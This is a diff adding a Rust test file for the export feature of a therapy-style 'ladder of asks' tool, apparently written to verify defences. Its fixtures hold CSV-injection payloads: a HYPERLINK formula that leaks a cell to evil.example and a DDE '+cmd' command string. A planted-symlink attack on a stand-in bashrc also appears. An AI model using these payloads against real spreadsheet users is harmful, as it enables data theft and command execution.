@@ -1,0 +1,309 @@
+//! Exports are safe to open and complete: no spreadsheet formula or raw HTML from the file, an output path
+//! that is not a regular file refused, and everything a therapist needs in every format.
+
+mod common;
+
+use std::fs;
+#[cfg(unix)]
+use std::path::Path;
+
+use common::Sandbox;
+
+const FORMULAS: &str = r#"version = 1
+
+[[rung]]
+id = 1
+ask = "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")"
+stakes = 20
+who = "@SUM(A1:A9)"
+tags = ["+cmd|' /C calc'!A0", "work"]
+
+[[rung]]
+id = 2
+ask = "-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)"
+stakes = 30
+
+[[attempt]]
+id = 1
+rung = 1
+at = 2026-11-20T10:00:00+01:00
+note = "=1+1"
+"#;
+
+fn csv_rows(s: &Sandbox) -> Vec<csv::StringRecord> {
+    let csv = s.ok(&["export", "--format", "csv"]);
+    csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect()
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe() {
+    let s = Sandbox::with(FORMULAS);
+    let rows = csv_rows(&s);
+    assert_eq!(&rows[0][1], "'=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")");
+    assert_eq!(&rows[0][3], "'@SUM(A1:A9)");
+    assert_eq!(&rows[0][4], "'+cmd|' /C calc'!A0; work");
+    assert_eq!(&rows[0][11], "'=1+1");
+    assert_eq!(
+        &rows[1][1], "'-5 minutes early, ask <b>Sam</b> & Jo | both ![](http://t.example/p.png)",
+        "documented: a leading minus too"
+    );
+    assert_eq!(&rows[0][2], "20", "numbers are left alone");
+}
+
+#[test]
+fn markdown_escapes_raw_html_and_keeps_the_table_whole() {
+    let s = Sandbox::with(FORMULAS);
+    let md = s.ok(&["export"]);
+    let row = md.lines().find(|l| l.starts_with("| 2 |")).expect("rung 2's row");
+    assert_eq!(
+        row,
+        "| 2 | 30 | -5 minutes early, ask &lt;b&gt;Sam&lt;/b&gt; &amp; Jo \\| both !\\[\\](http://t.example/p.png) |  | 0 | new |  |  |"
+    );
+    assert!(!md.contains("<b>") && !md.contains("!["), "{md}");
+}
+
+const LADDER: &str = "version = 1\n\n[[rung]]\nid = 1\nask = \"Ask Sam for help\"\nstakes = 20\n";
+
+#[test]
+fn export_to_standard_output_by_name_works_in_a_pipe() {
+    let s = Sandbox::with(LADDER);
+    let expected = s.ok(&["export", "--format", "csv"]);
+    for name in ["/dev/stdout", "-"] {
+        let out = s.ladder(&["export", "--format", "csv", "--output", name]).output().unwrap();
+        assert_eq!(out.status.code(), Some(0), "{name}: {}", String::from_utf8_lossy(&out.stderr));
+        assert_eq!(String::from_utf8(out.stdout).unwrap(), expected, "{name}");
+        assert!(out.stderr.is_empty(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
+    }
+    assert!(!s.path("-").exists(), "`-` is standard output, not a file named -");
+}
+
+#[cfg(unix)]
+#[test]
+fn an_existing_export_file_ends_up_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let s = Sandbox::with(LADDER);
+    let report = s.path("report.md");
+    fs::write(&report, "old report").unwrap();
+    fs::set_permissions(&report, fs::Permissions::from_mode(0o644)).unwrap();
+    let link = s.path("latest.md");
+    std::os::unix::fs::symlink(&report, &link).unwrap();
+    s.ok(&["export", "--output", link.to_str().unwrap()]);
+    assert!(fs::read_to_string(&report).unwrap().starts_with("# My ladder of asks"));
+    assert_eq!(fs::metadata(&report).unwrap().permissions().mode() & 0o777, 0o600);
+    assert!(fs::symlink_metadata(&link).unwrap().file_type().is_symlink(), "the link stays a link");
+}
+
+/// `export --output PATH` must fail at once with exit 2 and `words`, and leave `path` as it was.
+#[cfg(unix)]
+fn refused_output(s: &Sandbox, path: &Path, words: &str) {
+    let before = fs::symlink_metadata(path).unwrap();
+    let err = s.fails(&["export", "--output", path.to_str().unwrap()], 2);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.starts_with("ladder: ") && err.contains(words), "{} should say {words:?}: {err}", path.display());
+    let after = fs::symlink_metadata(path).unwrap();
+    assert_eq!(after.file_type(), before.file_type(), "{} was replaced", path.display());
+    assert!(fs::read_dir(s.dir.path()).unwrap().all(|e| !e.unwrap().file_name().to_string_lossy().ends_with(".tmp")));
+}
+
+#[cfg(unix)]
+#[test]
+fn an_output_that_is_not_a_regular_file_is_refused() {
+    use std::os::unix::fs::symlink;
+    let s = Sandbox::with(LADDER);
+    let fifo = s.path("pipe");
+    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+    refused_output(&s, &fifo, "is not a regular file (a device, a pipe or a socket)");
+    let socket = s.path("socket");
+    let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
+    refused_output(&s, &socket, "is not a regular file");
+    let folder = s.path("reports");
+    fs::create_dir(&folder).unwrap();
+    refused_output(&s, &folder, "is a folder; give the export a file name inside it");
+    // Through a symlink, the link is left alone too. (A device takes the same path; it is not tried here, since
+    // an older build run as root would replace /dev/null.)
+    let link = s.path("to-pipe");
+    symlink(&fifo, &link).unwrap();
+    refused_output(&s, &link, "is not a regular file");
+    let to_ladder = s.path("to-ladder.toml");
+    symlink(s.file(), &to_ladder).unwrap();
+    refused_output(&s, &to_ladder, "is your ladder file");
+    assert_eq!(s.read(), LADDER);
+}
+
+/// A ladder with everything a therapist asks about: fears and what came of them, the predicted chance of a yes,
+/// thanks, a hesitation (promoted), help given.
+const THERAPY: &str = r#"version = 1
+
+[settings]
+repeat = 3
+comfortable = 25
+habituation = 40
+
+[[rung]]
+id = 1
+ask = "Ask Sam to look at one slide"
+stakes = 35
+who = "Sam"
+tags = ["work"]
+fear = "He'll think I can't do my job"
+chance = 40
+
+[[rung]]
+id = 2
+ask = "Ask Jo for a lift"
+stakes = 45
+
+[[attempt]]
+id = 1
+rung = 1
+at = 2026-11-20T10:00:00+01:00
+outcome = "yes"
+before = 50
+after = 20
+note = "He was glad"
+fear_happened = false
+thanked = true
+
+[[attempt]]
+id = 2
+rung = 1
+at = 2026-11-21T10:00:00+01:00
+outcome = "no"
+fear_happened = true
+
+[[hesitation]]
+id = 1
+at = 2026-11-19T09:00:00+01:00
+text = "Ask Jo for a lift"
+story = "I'd be a burden"
+stakes = 45
+rung = 2
+
+[[hesitation]]
+id = 2
+at = 2026-11-21T09:00:00+01:00
+text = "Ask the pharmacist"
+
+[[gave]]
+id = 1
+at = 2026-11-21T12:00:00+01:00
+to = "Sam"
+text = "Reviewed his slides"
+"#;
+
+#[test]
+fn markdown_has_fears_predictions_thanks_hesitations_help_and_the_whole_rule() {
+    let s = Sandbox::with(THERAPY);
+    let md = s.ok(&["export"]);
+    let expected = "\
+- Mastered 0 of 2 rungs.
+- 2 attempts: 1 yes, 0 partial, 1 no, 0 no answer.
+- The feared outcome came true 1 of the 2 times it was checked.
+- Expected a yes 40% of the time; people said yes 50% of the time.
+- Thanked the helper after 1 of 1 yes answers.
+- Hesitations noticed: 2 (1 made into rungs).
+- Help given to others: 1.
+- Next step: #1 Ask Sam to look at one slide (stakes 35).
+
+Stakes and distress are SUDS, subjective units of distress: 0 is calm, 50 clearly anxious, 100 the worst \
+imaginable. Stakes are the distress expected before the first try; before and after are the distress felt around \
+each ask.
+
+An attempt counts toward mastering its rung, whatever the answer, when its distress (after the ask, else before \
+it) is at or below 25; when distress fell during it to 40% or less of where it started; or when it was not rated, \
+since making the ask is the rep. A rung is mastered once 3 attempts count.
+
+## The ladder
+
+| ID | Stakes | Ask | Who | Tries | Status | Fear | Guessed yes |
+|---:|---:|---|---|---:|---|---|---:|
+| 1 | 35 | Ask Sam to look at one slide | Sam | 2 | practising | He'll think I can't do my job | 40% |
+| 2 | 45 | Ask Jo for a lift |  | 0 | new |  |  |
+
+## Attempts
+
+| Date | Rung | Outcome | Before | After | Fear came true | Thanked | Note |
+|---|---:|---|---:|---:|---|---|---|
+| 2026-11-20 10:00 | #1 | yes | 50 | 20 | no | yes | He was glad |
+| 2026-11-21 10:00 | #1 | no |  |  | yes |  |  |
+
+## Hesitations
+
+Moments of wanting to ask and holding back.
+
+| Date | Wanted to ask | The story told | Stakes | Became |
+|---|---|---|---:|---|
+| 2026-11-19 | Ask Jo for a lift | I'd be a burden | 45 | rung #2 |
+| 2026-11-21 | Ask the pharmacist |  |  |  |
+
+## Help given
+
+| Date | To | What |
+|---|---|---|
+| 2026-11-21 | Sam | Reviewed his slides |
+";
+    assert_eq!(md, format!("# My ladder of asks\n\nExported 2026-11-22.\n\n{expected}"));
+}
+
+#[test]
+fn csv_appends_the_new_columns_and_keeps_the_old_ones_in_place() {
+    let s = Sandbox::with(THERAPY);
+    let csv = s.ok(&["export", "--format", "csv"]);
+    let lines: Vec<&str> = csv.split("\r\n").collect();
+    assert_eq!(
+        lines[..7],
+        [
+            "rung_id,ask,stakes,who,tags,status,attempt_id,at,outcome,before,after,note,\
+             kind,fear,chance,fear_happened,thanked,entry_id,text,story,promoted_to",
+            "1,Ask Sam to look at one slide,35,Sam,work,practising,1,2026-11-20T10:00:00+01:00,yes,50,20,He was glad,\
+             attempt,He'll think I can't do my job,40,no,yes,,,,",
+            "1,Ask Sam to look at one slide,35,Sam,work,practising,2,2026-11-21T10:00:00+01:00,no,,,,\
+             attempt,He'll think I can't do my job,40,yes,,,,,",
+            "2,Ask Jo for a lift,45,,,new,,,,,,,rung,,,,,,,,",
+            ",,45,,,,,2026-11-19T09:00:00+01:00,,,,,hesitation,,,,,1,Ask Jo for a lift,I'd be a burden,2",
+            ",,,,,,,2026-11-21T09:00:00+01:00,,,,,hesitation,,,,,2,Ask the pharmacist,,",
+            ",,,Sam,,,,2026-11-21T12:00:00+01:00,,,,,gave,,,,,1,Reviewed his slides,,",
+        ]
+    );
+    assert_eq!(lines[7..], [""], "nothing else, and the last line ends in CRLF");
+}
+
+#[test]
+fn json_adds_hesitations_gifts_and_the_rule_and_keeps_every_field() {
+    let s = Sandbox::with(THERAPY);
+    let text = s.ok(&["export", "--format", "json"]);
+    let keys: Vec<&str> = text.lines().filter_map(|l| l.strip_prefix("  \"")?.split('"').next()).collect();
+    assert_eq!(keys, ["exported", "settings", "rungs", "progress", "hesitations", "gifts", "mastery_rule"]);
+    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(json["rungs"], s.json(&["list", "--json"]), "rungs as list --json");
+    assert_eq!(json["hesitations"], s.json(&["hesitations", "--json"]), "hesitations as hesitations --json");
+    assert_eq!(
+        json["gifts"],
+        serde_json::json!([{ "id": 1, "at": "2026-11-21T12:00:00+01:00", "to": "Sam", "text": "Reviewed his slides" }])
+    );
+    assert_eq!(json["rungs"][0]["fear"], "He'll think I can't do my job");
+    assert_eq!(json["rungs"][0]["attempts"][1]["fear_happened"], true);
+    assert!(json["mastery_rule"].as_str().unwrap().ends_with("A rung is mastered once 3 attempts count."));
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlink_planted_in_a_shared_folder_is_not_followed() {
+    use std::os::unix::fs::{PermissionsExt, symlink};
+    let s = Sandbox::with(LADDER);
+    let shared = s.path("tmp");
+    fs::create_dir(&shared).unwrap();
+    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
+    let victim = s.path("bashrc");
+    fs::write(&victim, "alias ls='ls -F'\n").unwrap();
+    fs::set_permissions(&victim, fs::Permissions::from_mode(0o644)).unwrap();
+    let planted = shared.join("report.md");
+    symlink(&victim, &planted).unwrap();
+    refused_output(&s, &planted, "is a symlink in a folder others can write to");
+    assert_eq!(fs::read_to_string(&victim).unwrap(), "alias ls='ls -F'\n");
+    assert_eq!(fs::metadata(&victim).unwrap().permissions().mode() & 0o777, 0o644);
+    // A new file in the shared folder is fine.
+    let fresh = shared.join("fresh.md");
+    s.ok(&["export", "--output", fresh.to_str().unwrap()]);
+    assert!(fs::read_to_string(&fresh).unwrap().starts_with("# My ladder of asks"));
+}
